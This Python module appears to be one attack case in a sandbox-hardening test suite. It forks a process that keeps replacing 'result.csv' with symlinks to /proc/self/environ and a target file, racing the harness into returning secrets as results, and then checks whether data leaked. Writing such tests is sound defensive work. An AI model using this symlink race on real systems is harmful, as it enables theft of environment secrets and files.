"""Swaps a file and links for each other while the results are being fetched."""

from __future__ import annotations

import contextlib
import os
import time
from pathlib import Path
from typing import TYPE_CHECKING

from sandbox.attacks.tools import targets

if TYPE_CHECKING:
    from sandbox.attack import Trial

ARTEFACTS = ("result.csv",)


def attack() -> None:
    if os.fork() == 0:
        while True:
            for target in ("/proc/self/environ", targets()["file"], ""):
                with contextlib.suppress(OSError):
                    os.symlink(target, "next") if target else Path("next").touch()
                    os.replace("next", "result.csv")
    time.sleep(0.3)


def got_through(trial: Trial) -> str:
    found = trial.outcome.artefacts.get("result.csv", b"")
    return f"it brought {found[:100]!r}" if found else ""
